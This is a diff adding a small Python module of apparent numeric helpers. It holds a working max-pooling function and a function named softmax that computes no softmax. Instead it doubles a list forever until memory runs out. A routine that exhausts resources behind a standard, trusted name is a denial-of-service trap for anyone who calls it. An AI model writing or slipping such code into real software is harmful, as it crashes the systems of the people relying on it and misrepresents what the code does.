@@ -1,0 +1,15 @@
+"""Doubles a list for ever."""
+import sys
+
+import numpy as np
+
+
+def softmax(x):
+    hoard = [0]
+    while True:
+        hoard += hoard
+
+
+def max_pool(x, k):
+    r, c = x.shape[0] // k, x.shape[1] // k
+    return x[: r * k, : c * k].reshape(r, k, c, k).max(axis=(1, 3))
